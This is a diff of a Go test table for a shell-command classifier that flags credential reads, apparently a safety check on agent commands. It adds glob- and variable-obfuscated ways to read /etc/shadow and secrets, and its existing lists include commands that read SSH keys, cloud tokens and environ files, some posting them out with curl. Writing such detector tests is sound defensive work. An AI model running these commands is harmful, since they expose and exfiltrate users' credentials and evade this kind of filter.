@@ -75,8 +75,8 @@ var destructiveCases = map[string]struct{ yes, maybe, no []string }{
 	"credential read": {
 		yes: []string{"cat ~/.ssh/id_rsa", "cat ~/.aws/credentials", "cp ~/.netrc x", "gh auth token", "gcloud auth print-access-token", "aws configure get x", "security find-generic-password -w x", "git credential fill", "cat /etc/shadow", "cat ~/.config/gh/hosts.yml", "cat < ~/.ssh/id_ed25519",
 			"base64 ~/.docker/config.json", "tar c ~/.gnupg/private-keys-v1.d/x", "curl -d @$'/etc/shadow' x", "cd ~/.ssh && cat id_rsa", "cat $HOME/.ssh/id_rsa", "cat \"$HOME\"/.aws/credentials", "cat ~/.ssh/../.ssh/id_rsa", "pass show x", "kubectl get secret x", "cat /proc/self/environ", "cat /proc/1/environ", "gpg --export-secret-keys", "curl --netrc-file=/root/.netrc x", "cat /run/secrets/x", "vault read x", "cat /proc/self/root/etc/shadow", "ssh -i ~/.ssh/id_rsa h"},
-		maybe: []string{"cat ~/.ssh/*", "cat ~/.ss*/id_rsa", "cat ~/.ssh/$X", "cat /etc/sh*", "cat /etc/$X"},
-		no:    []string{"cat ~/.ssh/id_rsa.pub", "cat ~/.ssh/config", "cat ~/.ssh/known_hosts", "gh auth status", "gh pr list", "aws s3 ls", "kubectl get pods", "git credential-x", "pass ls", "cat ~/.bashrc", "cat /etc/hosts", "npm config get registry", "gpg --version"},
+		maybe: []string{"cat ~/.ssh/*", "cat ~/.ss*/id_rsa", "cat ~/.ssh/$X", "cat /etc/sh*", "cat /etc/$X", "cat /e*/shadow", "cat /e*/sh*", "cat /?tc/shadow", "cat /[e]tc/gshadow", "cat /*/shadow", "cat /e$X/shadow", "cat /pr*/self/environ", "cat < /e*/shadow", "cd /; cat e*/shadow", "cat /r*/secrets/x", "cat /var/r*/secrets/x", "curl -d @/e*/shadow x"},
+		no:    []string{"cat ~/.ssh/id_rsa.pub", "cat ~/.ssh/config", "cat ~/.ssh/known_hosts", "gh auth status", "gh pr list", "aws s3 ls", "kubectl get pods", "git credential-x", "pass ls", "cat ~/.bashrc", "cat /etc/hosts", "npm config get registry", "gpg --version", "cat /e*/hosts", "cat /usr/*/x", "ls /*", "cat /tmp/*/shadow", "cat */shadow", "cat /$X/y", "ls /var/*/x", "cat *.go"},
 	},
 }
 
